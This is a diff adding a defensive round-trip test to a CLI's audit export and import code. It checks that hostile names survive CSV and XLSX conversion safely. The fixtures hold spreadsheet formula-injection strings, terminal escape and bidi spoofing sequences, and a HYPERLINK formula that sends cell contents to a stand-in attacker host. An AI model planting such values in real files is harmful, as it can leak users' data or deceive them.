@@ -5,6 +5,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { existsSync, mkdtempSync, readdirSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { parse as parseYaml } from 'yaml';
 import { cli, ROOT } from '../git/cli.js';
 import { expectGoldenDir } from '../golden.js';
 
@@ -164,6 +165,31 @@ describe('export, then import: the same audit', () => {
     expect(JSON.parse(i.stdout)).toMatchObject({ tools: 9, issues: [] });
     expect(cli(['validate', back], dir).code).toBe(0);
   });
+
+  // A tool named `=1+2` is written `'=1+2` in CSV (so that no spreadsheet runs it) and read back
+  // without the quote; in XLSX it is text already. Names, vendors and the organisation come back
+  // exactly; a control character comes back as its visible \uXXXX escape, as export writes it.
+  for (const format of ['xlsx', 'csv'] as const) {
+    it(`hostile names (=1+2, -x, @home, '=...) come back unchanged through ${format}`, () => {
+      const src = join(FIX, 'hostile.yaml');
+      const file = join(dir, `hostile.${format === 'xlsx' ? 'xlsx' : 'csv.d'}`);
+      const e = cli(['export', src, '--format', format, '--out', file], dir);
+      expect(e.code, e.stderr).toBe(0);
+      const back = join(dir, `hostile-${format}-back`);
+      const i = cli(['import', file, '--out', back], dir);
+      expect(i.code, i.stderr).toBe(0);
+      expect(cli(['validate', back], dir).code).toBe(0);
+      expect(analyzeJson(back)).toEqual(analyzeJson(src));
+      const tools = parseYaml(readFileSync(join(back, 'tools.yaml'), 'utf8')).tools as Record<string, unknown>[];
+      expect(tools.map((x) => [x.id, x.name, x.vendor])).toEqual([
+        ['formula', '=1+2', '+cmd'], ['minus', '-x', undefined], ['at-home', '@home', "'=already quoted"], ['plus', '+1 555 0100', undefined],
+      ]);
+      expect(tools[0].notes).toBe('-2+3 is a note that starts with a minus');
+      expect(tools[3].notes).toBe('title \\u001b]0;pwned\\u0007, clear \\u001b[2J, nul \\u0000, bidi \\u202egnp.exe');
+      const manifest = parseYaml(readFileSync(join(back, 'martech-audit.yaml'), 'utf8'));
+      expect(manifest.organization.name).toBe('=HYPERLINK("http://evil.example/?"&A1,"Click")');
+    });
+  }
 
   it('a workbook is not overwritten without --force', () => {
     const file = join(dir, 'once.xlsx');
